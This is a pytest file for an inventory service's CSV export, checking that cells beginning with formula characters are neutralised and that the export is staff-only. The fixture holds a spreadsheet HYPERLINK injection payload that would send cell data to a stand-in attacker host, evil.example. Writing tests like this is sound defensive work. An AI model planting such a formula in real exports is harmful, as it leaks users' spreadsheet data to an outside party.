"""The device export: a CSV for spreadsheets in which no cell can run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from poshub.core.exports import csv_bytes, neutralise
from tests.factories import login

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _stock(client: TestClient, body: str) -> None:
    response = client.post(
        "/api/v1/inventory/stock-in",
        headers=login(client, "ops"),
        files={"file": ("stock.csv", body.encode(), "text/csv")},
    )
    assert response.status_code == 201, response.text


def test_exported_devices_have_formula_cells_neutralised(client: TestClient) -> None:
    quoted = HYPERLINK.replace('"', '""')
    _stock(
        client,
        "serial_number,model_code,warehouse,firmware_version\n"
        f'SN-X-0001,SMART-A8,"{quoted}",+1.0\n'
        "SN-X-0002,SMART-A8,@SUM(1+1),-2\n"
        "SN-X-0003,TRAD-T60,合肥仓,1.4.2\n",
    )
    response = client.get("/api/v1/inventory/devices.csv", headers=login(client, "ops"))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["serial_number", "model_code", "status", "warehouse"]
    by_serial = {row[0]: row for row in rows[1:]}
    assert by_serial["SN-X-0001"][3] == "'" + HYPERLINK
    assert by_serial["SN-X-0001"][4] == "'+1.0"
    assert by_serial["SN-X-0002"][3] == "'@SUM(1+1)"
    assert by_serial["SN-X-0002"][4] == "'-2"
    assert by_serial["SN-X-0003"][3:5] == ["合肥仓", "1.4.2"]  # ordinary text untouched
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    only_t60 = client.get(
        "/api/v1/inventory/devices.csv",
        params={"model_code": "TRAD-T60"},
        headers=login(client, "ops"),
    )
    assert [row[0] for row in csv.reader(io.StringIO(only_t60.content.decode("utf-8-sig")))] == [
        "serial_number",
        "SN-X-0003",
    ]


def test_the_export_is_staff_only(client: TestClient) -> None:
    assert client.get("/api/v1/inventory/devices.csv").status_code == 401
    response = client.get("/api/v1/inventory/devices.csv", headers=login(client, "reviewer"))
    assert response.status_code == 403


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_every_formula_prefix_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    data = csv_bytes(["h"], [[cell]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(data, newline="")))[1] == ["'" + cell]


def test_other_cells_are_left_alone() -> None:
    assert neutralise("合肥仓") == "合肥仓"
    assert neutralise(None) == ""
    assert neutralise(12) == "12"
    assert neutralise("a=b") == "a=b"
